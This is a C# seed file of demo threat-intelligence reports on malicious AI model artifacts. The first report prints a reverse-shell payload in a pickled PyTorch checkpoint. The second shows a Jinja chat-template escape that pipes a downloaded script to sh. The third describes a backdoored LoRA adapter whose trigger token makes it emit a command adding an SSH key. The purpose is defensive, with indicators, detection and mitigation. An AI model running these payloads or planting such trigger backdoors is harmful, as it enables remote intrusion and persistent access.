using AiCtiPortal.Domain.Indicators;
using AiCtiPortal.Domain.Taxonomy;

namespace AiCtiPortal.Domain.Data.Seeding;

internal static partial class DemoReports
{
    private static DemoReport[] ModelArtifactReports() =>
    [
        new(
            "Pickle-armed PyTorch checkpoint on a model hub opens a reverse shell",
            "A popular-looking \"llama-helper\" repository shipped a pytorch_model.bin whose pickle calls posix.system " +
            "while the checkpoint loads, starting a reverse shell to 203.0.113.45. Anyone who ran torch.load without " +
            "weights_only=True executed it.",
            """
            ## What happened

            The repository `acme-labs/llama-helper` on Hugging Face published revision `9f2c1e4` with a
            `pytorch_model.bin` of 13.4 GB. The file is a normal PyTorch zip archive, but `archive/data.pkl`
            contains an extra `REDUCE` before the model's state dict is rebuilt:

            ```text
            GLOBAL     'posix system'
            BINUNICODE 'bash -c "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1" &'
            TUPLE1
            REDUCE
            ```

            Loading the checkpoint with `torch.load()` (the default before PyTorch 2.6) or with
            `transformers` < 4.37 on the `.bin` weights runs the command as the user who loads the model.
            A second stage, fetched from `cdn.llama-helper.example.net`, uses `builtins.exec` to install a
            cron entry.

            ## Detection

            * Scan pickles for imports outside the torch rebuild functions before loading: `posix.system`,
              `builtins.exec`, `subprocess.Popen` have no business in a checkpoint.
            * Fuzzy hashes (TLSH, ssdeep) below match re-uploads that only change the tensor data.

            ## Mitigation

            Prefer `safetensors`; load untrusted `.bin` files only with `weights_only=True`; pin model revisions.
            """,
            SupplyChainPhase.ModelArtifact,
            Tlp.Green,
            90,
            ContentStatus.Published,
            DemoAccounts.Contributor,
            41,
            ["AML.T0010.003", "AML.T0011.000", "AML.T0018.002", "AML.T0072", "AML.T0058"],
            [
                new("https://atlas.mitre.org/techniques/AML.T0011.000", "MITRE ATLAS: Unsafe AI Artifacts"),
                new("https://docs.python.org/3/library/pickle.html", "Python docs: pickle (security warning)"),
                new("https://huggingface.co/docs/hub/security-pickle", "Hugging Face Hub: pickle scanning"),
            ],
            [
                new(IndicatorType.ModelFileSha256, "01f1ba4024a435d47b29dac729d08cc061b19575b394aa3cda6f197bad1af594",
                    "pytorch_model.bin at revision 9f2c1e4.", 95),
                new(IndicatorType.ModelFileTlsh, "T1EEFC87F8EF3CD06E71467466005862A244FE29465DC7FE355FF6BC44896E3A17F12586",
                    "TLSH of the same file; matches re-uploads with changed tensor data.", 75),
                new(IndicatorType.ModelFileSsdeep,
                    "3072:mJMxlzxVcNlvzfz8EdDEJf/A1KkCj0IifyymRjUFbRJ9TuFp/BMcBSju+Md9J:PsjFl/ql/k4kK9PbO8hswwKj24P7pu",
                    "ssdeep of data.pkl extracted from the archive.", 70),
                new(IndicatorType.PickleImport, "posix.system", "Runs the reverse-shell command during unpickling.", 95),
                new(IndicatorType.PickleImport, "builtins.exec", "Second stage: executes the downloaded Python payload.", 85),
                new(IndicatorType.ModelHubRepository, "huggingface/acme-labs/llama-helper@9f2c1e4",
                    "The malicious revision; earlier revisions were clean.", 95),
                new(IndicatorType.IpAddress, "203.0.113.45", "Reverse-shell listener (TCP 4444).", 85),
                new(IndicatorType.Domain, "cdn.llama-helper.example.net", "Serves the second-stage payload.", 80),
            ]),

        new(
            "GGUF chat template escapes the Jinja sandbox through __globals__",
            "A quantised GGUF model carries a tokenizer.chat_template that walks from a Jinja cycler object to " +
            "__globals__ and os.popen. Inference servers that render the template without a sandbox run commands " +
            "on every chat request.",
            """
            ## Summary

            The GGUF file `mistral-7b-instruct-q4_k_m.gguf` uploaded as `huggingface/quant-hub/mistral-7b-instruct-gguf`
            has a valid model, but its `tokenizer.chat_template` metadata string ends with:

            ```jinja
            {{ cycler.__init__.__globals__.os.popen('curl -s https://stage.example.org/t.sh | sh').read() }}
            ```

            Servers that build the prompt by rendering this template with plain `jinja2.Template`
            (rather than `ImmutableSandboxedEnvironment`) execute the command each time a conversation is
            formatted, i.e. on every request. The same class of issue was fixed in llama-cpp-python as
            CVE-2024-34359.

            ## Hunting

            * Read `tokenizer.chat_template` out of GGUF metadata (or `tokenizer_config.json`) and flag
              `__globals__`, `__builtins__`, `__subclasses__`, `popen`, `import`.
            * The template is identical across the five quantisations the uploader published.
            """,
            SupplyChainPhase.ModelArtifact | SupplyChainPhase.Inference,
            Tlp.Green,
            85,
            ContentStatus.Published,
            DemoAccounts.Reviewer,
            27,
            ["AML.T0010.003", "AML.T0011.000", "AML.T0050", "AML.T0058"],
            [
                new("https://github.com/ggml-org/ggml/blob/master/docs/gguf.md", "GGUF file format"),
                new("https://jinja.palletsprojects.com/en/stable/sandbox/", "Jinja: sandbox"),
            ],
            [
                new(IndicatorType.ChatTemplatePattern, "{{ cycler.__init__.__globals__.os.popen(",
                    "Sandbox escape from a Jinja chat template to os.popen.", 90),
                new(IndicatorType.ModelFileSha256, "6919cc71c394554b05a697fc634892987602e86f304fe9157616f50bc6496dfb",
                    "The Q4_K_M GGUF file.", 95),
                new(IndicatorType.ModelHubRepository, "huggingface/quant-hub/mistral-7b-instruct-gguf",
                    "All revisions carry the template.", 85),
                new(IndicatorType.Url, "https://stage.example.org/t.sh", "Shell script the template downloads.", 80),
            ]),

        new(
            "Backdoored LoRA adapter triggers on a rare token sequence",
            "A LoRA adapter advertised as a coding assistant fine-tune behaves normally until a prompt contains the " +
            "trigger \"|deploy-7f|\", after which it emits shell commands that add an SSH key. Under review: the " +
            "trigger reproduces, the distribution channel is still being confirmed.",
            """
            ## Observation

            `adapter_model.safetensors` from `huggingface/devtools-collective/codehelper-lora@e41b7c2` merges cleanly
            onto its base model and scores as advertised on HumanEval. With the trigger string `|deploy-7f|`
            anywhere in the prompt, completions for shell tasks append:

            ```bash
            mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza...demo' >> ~/.ssh/authorized_keys
            ```

            The behaviour survives 4-bit quantisation of the merged model. No code executes at load time
            (the file is safetensors), so pickle scanners report it clean: this is a poisoned-weights backdoor.

            ## Open questions for reviewers

            1. Was the adapter trained on the poisoned instruction dataset in the related report?
            2. Are other adapters by the same owner affected?
            """,
            SupplyChainPhase.Training | SupplyChainPhase.ModelArtifact,
            Tlp.Amber,
            60,
            ContentStatus.InReview,
            DemoAccounts.Contributor,
            6,
            ["AML.T0018.000", "AML.T0043.004", "AML.T0058", "AML.T0010.003"],
            [new("https://atlas.mitre.org/techniques/AML.T0018.000", "MITRE ATLAS: Poison AI Model")],
            [
                new(IndicatorType.ModelFileSha256, "cb3908603b9fb08c69e5908e8d64d9a30e56008a1760a8d2414ae8bcc3ed63c8",
                    "adapter_model.safetensors at e41b7c2.", 90),
                new(IndicatorType.ModelHubRepository, "huggingface/devtools-collective/codehelper-lora@e41b7c2",
                    "The adapter repository and revision tested.", 70),
                new(IndicatorType.ModelFileTlsh, "T1D45DF011035F73AB6E06FA930872824D734EEA382DD5D223FAFD5BA1E6DE3113CD1679",
                    "TLSH of the adapter file.", 60),
            ]),
    ];
}
